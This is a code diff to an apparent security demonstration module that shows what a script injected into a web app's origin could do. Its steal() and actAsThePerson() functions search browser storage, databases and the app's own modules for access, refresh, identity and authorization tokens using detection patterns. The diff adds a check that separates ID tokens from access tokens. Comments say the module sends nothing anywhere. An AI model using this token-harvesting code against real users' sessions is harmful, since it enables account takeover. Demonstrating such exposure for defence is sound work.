@@ -1,10 +1,10 @@
 // What a script could do that somebody else got into this page: by a hole in the app, or in a package it was built from. It has
 // the same origin, so it may do what the app may. This one is harmless: it shows what it took, and sends nothing anywhere.
 
-const ACCESS = /\beyJ[\w-]+\.[\w-]+\.[\w-]+/g;
+const JWT = /\beyJ[\w-]+\.[\w-]+\.[\w-]+/g;
 const REFRESH = /\blyr_[\w-]{20,}/g;
 
-/** Looks everywhere. Each find: the `place`, and what was there of each kind of secret: `access`, `refresh`, `code`. */
+/** Looks everywhere. Each find: the `place`, and what was there of each kind: `access`, `refresh`, `code`, `identity`. */
 export async function steal() {
   const app = await import("./session.js");
   return [
@@ -33,7 +33,18 @@ export async function actAsThePerson() {
 
 function find(place, text) {
   const unique = (pattern) => [...new Set(text.match(pattern) ?? [])];
-  return { place, access: unique(ACCESS), refresh: unique(REFRESH), code: unique(/\blyc_[\w-]{20,}/g) };
+  const [identity, access] = [true, false].map((wanted) => unique(JWT).filter((token) => isIdToken(token) === wanted));
+  return { place, access, identity, refresh: unique(REFRESH), code: unique(/\blyc_[\w-]{20,}/g) };
+}
+
+/** An ID token opens nothing. It is told by the claims that tie it to a sign-in (OIDC Core §2). */
+function isIdToken(token) {
+  try {
+    const claims = JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
+    return "nonce" in claims || "at_hash" in claims;
+  } catch {
+    return false;
+  }
 }
 
 async function everyDatabase() {
@@ -49,7 +60,7 @@ async function everyDatabase() {
 }
 
 async function everythingHere(app) {
-  const modules = ["./app.js", "./memory.js", "./provider.js", "./sign-in.js", "./stores.js", "./tabs.js", "./tokens.js"];
+  const modules = ["./app.js", "./memory.js", "./provider.js", "./sign-in.js", "./sign-out.js", "./stores.js", "./tabs.js", "./tokens.js"];
   const offered = await Promise.all(modules.map((module) => import(module)));
   // Looked at already; and RegExp remembers what was searched last, which is what this script found before.
   const seen = new Set([localStorage, sessionStorage, RegExp]);
